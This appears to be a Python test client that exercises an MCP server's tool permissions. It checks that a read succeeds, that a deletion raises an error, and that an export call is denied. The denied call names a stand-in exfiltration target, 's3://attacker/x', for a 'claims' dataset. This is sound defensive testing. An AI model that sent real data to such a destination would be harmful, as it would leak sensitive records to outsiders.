"""An agent built on the Python SDK 1.x (which speaks 2025-06-18), run with that SDK's own interpreter.

Usage: python mcp1_client.py COMMAND [ARGS…]. Starts COMMAND as its stdio server, exercises it, and prints one JSON
object with what it saw, for the test to check. `python mcp1_client.py --http URL KEY` does the same against a
Streamable HTTP endpoint, with KEY as its bearer token.
"""

import json
import os
import sys

import anyio
import mcp.types as types
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client
from mcp.client.streamable_http import streamablehttp_client
from mcp.shared.exceptions import McpError


def text_of(result):
    return "".join(block.text for block in result.content if isinstance(block, types.TextContent))


def transport(arguments):
    if arguments[0] == "--http":
        return streamablehttp_client(arguments[1], headers={"Authorization": f"Bearer {arguments[2]}"})
    parameters = StdioServerParameters(command=arguments[0], args=arguments[1:], env=dict(os.environ))
    return stdio_client(parameters)


async def main(command):
    report = {"sdk_protocol_version": types.LATEST_PROTOCOL_VERSION}
    async with transport(command) as streams:
        read, write = streams[0], streams[1]
        async with ClientSession(read, write) as session:
            initialized = await session.initialize()
            report["negotiated"] = initialized.protocolVersion
            report["tools"] = [tool.name for tool in (await session.list_tools()).tools]
            allowed = await session.call_tool("read_record", {"id": "r-1"})
            report["allowed"] = {"isError": allowed.isError, "text": text_of(allowed)}
            denied = await session.call_tool("start_export_job", {"destination_uri": "s3://attacker/x", "dataset": "claims"})
            report["denied"] = {"isError": denied.isError, "text": text_of(denied), "meta": denied.meta}
            try:
                await session.call_tool("delete_record", {"id": "r-1"})
                report["hidden_error"] = None
            except McpError as error:
                report["hidden_error"] = error.error.code
    print(json.dumps(report))


anyio.run(main, sys.argv[1:])
